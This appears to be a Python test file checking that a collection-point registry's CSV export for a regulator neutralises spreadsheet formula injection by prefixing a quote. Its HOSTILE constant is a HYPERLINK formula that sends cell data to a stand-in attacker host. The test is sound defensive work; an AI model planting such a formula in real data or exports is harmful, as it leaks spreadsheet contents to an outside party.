"""CSV injection (issue 10, finding 7): an operator names its own collection point; a name that a
spreadsheet would run as a formula must reach the regulator's CSV export as plain text."""

from __future__ import annotations

import csv
import io

from tests.utils.api import Api

HOSTILE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open report")'


def _register_point(api: Api, point_id: str, name: str) -> int:
    registered = api.client.post(
        "/api/v1/collection-points",
        json={
            "point_id": point_id,
            "operator_id": api.cast.outlet_operator,
            "name": name,
            "division_code": "110105",
            "longitude": -0.5,
        },
        headers=api.auth("outlet_operator"),
    )
    assert registered.status_code == 201, registered.text
    return int(registered.json()["notification_id"])


def test_a_point_named_as_a_formula_is_plain_text_in_the_network_csv(api: Api) -> None:
    _register_point(api, "CP-110105-0002", HOSTILE)
    head = _register_point(api, "CP-110105-0003", "-3.5")
    answer = api.client.get(
        "/api/v1/reports/network",
        params={"format": "csv", "after": head, "limit": 1000},
        headers=api.auth("regulator"),
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(answer.text))}
    assert rows["CP-110105-0002"]["name"] == "'" + HOSTILE
    assert rows["CP-110105-0002"]["longitude"] == "-0.5"  # a negative number stays a number
    assert rows["CP-110105-0003"]["name"] == "-3.5"  # text that is a plain number is left alone
    assert not any(line.startswith("=") or ",=" in line for line in answer.text.splitlines())
